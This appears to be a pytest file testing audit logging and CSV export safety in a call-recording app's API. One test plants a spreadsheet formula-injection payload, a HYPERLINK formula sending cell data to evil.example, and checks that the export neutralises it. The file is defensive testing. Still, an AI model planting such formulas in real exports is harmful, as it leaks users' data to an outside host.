"""Every sensitive act is on record (issue 12): signing in and out, a recording played or
saved, a clip's audio, a CSV export; a failed sign-in keeps no typed text that is not a
username (often a password in the wrong box); CSV exports cannot carry a spreadsheet
formula from recording metadata. Each test failed on the code before."""

from __future__ import annotations

import csv
import io

from tests.api.conftest import PASSWORD, Api


def test_signing_in_and_out_is_audited(api: Api) -> None:
    r = api.post("/api/v1/auth/login", json={"username": "sup", "password": PASSWORD})
    assert r.status_code == 200, r.text
    token = r.json()["access_token"]
    (entry,) = api.audit("auth.login")
    assert entry["username"] == "sup" and entry["detail"]["address"]
    out = api.client.post("/api/v1/auth/logout", headers={"Authorization": f"Bearer {token}"})
    assert out.status_code == 204
    assert [e["username"] for e in api.audit("auth.logout")] == ["sup"]


def test_a_failed_sign_in_keeps_only_a_fingerprint_of_a_name_that_is_no_users(api: Api) -> None:
    typed = "MyS3cretPassw0rd!"  # typed into the username box
    for _ in range(2):
        api.post("/api/v1/auth/login", json={"username": typed, "password": "x" * 12})
    api.post("/api/v1/auth/login", json={"username": "sup", "password": "wrong" * 3})
    entries = api.audit("auth.login_failed")
    assert len(entries) == 3
    assert typed not in str(entries)
    unknown = [e for e in entries if e["detail"]["reason"] == "unknown user"]
    assert len({e["detail"]["username"] for e in unknown}) == 1  # the same name, seen twice
    assert unknown[0]["detail"]["username"].startswith("sha256:")
    (wrong,) = [e for e in entries if e["detail"]["reason"] == "wrong password"]
    assert wrong["detail"]["username"] == "sup"  # a real user's name is kept


def test_playing_a_recording_is_audited_once_not_on_every_seek(api: Api) -> None:
    url = f"/api/v1/calls/{api.world.calls['a1_flagged']}/audio"
    assert api.get(url, "agent1", headers={"Range": "bytes=0-"}).status_code == 206
    assert api.get(url, "agent1", headers={"Range": "bytes=1000-"}).status_code == 206
    assert api.get(url, "sup").status_code == 200
    entries = api.audit("call.audio")
    assert sorted(e["username"] for e in entries) == ["agent1", "sup"]
    assert {e["object_id"] for e in entries} == {api.world.calls["a1_flagged"]}


def test_a_clips_audio_is_audited(api: Api) -> None:
    clip = api.world.clips["a1_flagged"]
    assert api.get(f"/api/v1/clips/{clip}/audio", "trainer").status_code == 200
    (entry,) = api.audit("clip.audio")
    assert entry["username"] == "trainer" and entry["object_id"] == str(clip)


def test_a_csv_export_is_audited_and_carries_no_formula(api: Api) -> None:
    from pipeline.db.models import Team
    from pipeline.db.session import session_scope

    with session_scope(api.world.url) as s:
        team = s.query(Team).filter_by(name="Billing").one()
        team.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    r = api.get("/api/v1/dashboards/summary.csv", "sup",
                params={"period": "month", "group_by": "team"})
    assert r.status_code == 200, r.text
    groups = [row["group"] for row in csv.DictReader(io.StringIO(r.text))]
    assert "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")' in groups
    assert not any(g.startswith(("=", "+", "-", "@")) for g in groups)
    (entry,) = api.audit("dashboard.export")
    assert entry["username"] == "sup" and entry["detail"]["group_by"] == "team"
